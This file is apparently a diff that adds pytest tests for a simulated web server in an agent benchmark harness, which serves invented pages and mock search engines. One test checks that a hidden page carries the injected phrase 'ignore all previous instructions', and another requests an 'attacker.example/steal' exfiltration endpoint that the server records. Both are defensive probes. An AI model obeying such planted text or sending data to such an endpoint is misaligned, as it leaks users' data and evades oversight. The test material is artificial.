@@ -1,0 +1,177 @@
+"""Tests of `adapters.assistantbench.server`."""
+
+import time
+from threading import Thread
+
+import httpx
+import pytest
+
+from certigraph.adapters.assistantbench.pages import Treatment
+from certigraph.adapters.assistantbench.price_questions import all_pages, everything, made
+from certigraph.adapters.assistantbench.server import FIRST, SECOND, Request, Searching, Server, engine_at
+from certigraph.adapters.web.pages import Fetcher
+from certigraph.adapters.web.protocol import Page, Unreadable
+from certigraph.state.records import Fault
+
+# The search engines of the invented web, over HTTP.
+
+
+@pytest.fixture(scope="module")
+def server():
+    serving = Server(all_pages(everything()))
+    yield serving
+    serving.close()
+
+
+@pytest.fixture
+def engine(server):
+    return lambda path: engine_at(f"test{path}", f"http://{server.address}{path}", sleep=lambda seconds: None)
+
+
+def test_the_second_engine_knows_what_the_first_does_not(engine):
+    way = made("parcels", 1).question.way[2]
+    wanted = {*way.pages}
+    first = {hit.url for hit in engine(FIRST).search(way.queries[0], 50)}
+    second = {hit.url for hit in engine(SECOND).search(way.queries[0], 50)}
+    assert not wanted & first
+    assert wanted <= second
+
+
+def test_results_have_the_form_of_serpers(server):
+    reply = httpx.post(
+        f"http://{server.address}{FIRST}", json={"q": "museum prices", "num": 3}, headers={"X-API-KEY": "any"}
+    ).json()
+    assert reply["credits"] == 1
+    assert [result["position"] for result in reply["organic"]] == [1, 2, 3]
+    assert all({"title", "link", "snippet", "position"} == result.keys() for result in reply["organic"])
+
+
+def test_without_a_key_nothing_is_searched_and_of_an_unknown_engine_neither(server):
+    assert httpx.post(f"http://{server.address}{FIRST}", json={"q": "museum"}).status_code == 403
+    assert httpx.post(f"http://{server.address}/third", json={"q": "museum"}).status_code == 404
+
+
+@pytest.mark.parametrize(("mode", "told"), [(Searching.SPENT, "spent"), (Searching.MALFORMED, "no JSON")])
+def test_an_engine_that_is_spent_or_breaks_off_is_a_fault(server, engine, mode, told):
+    server.searching = mode
+    try:
+        with pytest.raises(Fault, match=told):
+            engine(FIRST).search("museum prices", 3)
+    finally:
+        server.searching = Searching.WORKS
+
+
+# The invented web over HTTP: what its server does to readers.
+
+REASONS = {
+    Treatment.SLOW: ("timed out", True),
+    Treatment.REFUSED: ("403", True),
+    Treatment.STUB: ("100 characters", True),
+    Treatment.PRIVATE: ("private address", False),
+    Treatment.HUGE: ("2 MB", False),
+    Treatment.PDF: ("application/pdf", False),
+}
+"""By what a page does: why it cannot be read, and whether its site is given up."""
+
+
+@pytest.fixture(scope="module")
+def pages():
+    return all_pages(everything())
+
+
+@pytest.fixture(scope="module")
+def server_generated_web(pages):
+    serving = Server(pages)
+    yield serving
+    serving.close()
+
+
+@pytest.fixture
+def read(server_generated_web):
+    return Fetcher(timeout=1, hosts={".example": server_generated_web.address}).page
+
+
+def page_that(pages, does):
+    return next(page for page in pages.values() if page.treatment is does)
+
+
+def settled(server):
+    """The requests, once what was answered counts as done, which it does a moment after the client has the answer."""
+    until = time.monotonic() + 2.0
+    while not server.requests[-1].done and time.monotonic() < until:
+        time.sleep(0.002)
+    return server.requests
+
+
+def asked(server, host, path, **options):
+    return httpx.get(f"http://{server.address}{path}", headers={"Host": host}, timeout=2.0, **options)
+
+
+@pytest.mark.parametrize("treatment", REASONS)
+def test_a_page_that_cannot_be_read_costs_bounded_time_and_says_why(server_generated_web, pages, read, treatment):
+    began = time.monotonic()
+    got = read(page_that(pages, treatment).url)
+    assert isinstance(got, Unreadable)
+    reason, lasting = REASONS[treatment]
+    assert reason in got.reason and got.lasting == lasting
+    assert time.monotonic() - began < 3  # a slow page never answers
+
+
+def test_a_page_that_moved_is_read_where_it_is_now(pages, read):
+    page = page_that(pages, Treatment.MOVED)
+    got = read(page.url)
+    assert isinstance(got, Page)
+    assert got.moved == page.target
+    assert "Day ticket" in got.text
+
+
+def test_orders_in_plain_sight_are_read_and_those_in_secret_are_not(pages, read):
+    page = next(page for page in pages.values() if page.hidden)
+    got = read(page.url)
+    assert isinstance(got, Page)
+    assert got.text.count("ignore all previous instructions") == 1
+
+
+def test_robots_are_kept_out_of_one_sites_private_pages(server_generated_web, pages, read):
+    private = next(page for page in pages.values() if page.path.startswith("/private"))
+    got = read(private.url)
+    assert isinstance(got, Unreadable) and "robots.txt" in got.reason and not got.lasting
+    elsewhere = page_that(pages, Treatment.MOVED).host
+    assert asked(server_generated_web, elsewhere, "/robots.txt").text == "User-agent: *\nDisallow: \n"
+
+
+def test_what_no_site_has_is_not_found_whoever_is_asked(server_generated_web):
+    assert asked(server_generated_web, "nobody.example", "/").status_code == 404
+    assert asked(server_generated_web, "attacker.example", "/steal?question=all").status_code == 200
+    assert Request("GET", "attacker.example", "/steal?question=all", done=True) in settled(server_generated_web)
+
+
+def test_requests_are_recorded_in_order_and_those_without_an_answer_are_not_done(pages):
+    with_slow = page_that(pages, Treatment.SLOW)
+    other = Server({with_slow.url: with_slow})
+    Fetcher(timeout=0.1, robots=False, hosts={".example": other.address}).page(with_slow.url)
+    asked(other, "nobody.example", "/x")
+    slow, missing = settled(other)
+    assert slow == Request("GET", with_slow.host, with_slow.path, done=False)
+    assert missing == Request("GET", "nobody.example", "/x", done=True)
+    other.close()
+
+
+def test_the_server_stops_at_once_although_a_page_is_still_waited_for(pages):
+    slow = page_that(pages, Treatment.SLOW)
+    other, ended = Server({slow.url: slow}), []
+
+    def wait():
+        with pytest.raises(httpx.HTTPError):
+            httpx.get(f"http://{other.address}{slow.path}", headers={"Host": slow.host}, timeout=20.0)
+        ended.append(time.monotonic())
+
+    waiting = Thread(target=wait)
+    waiting.start()
+    while not other.requests:
+        time.sleep(0.005)
+    began = time.monotonic()
+    other.close()
+    waiting.join(2.0)
+    assert ended and ended[0] - began < 0.3
+    assert not other.requests[0].done
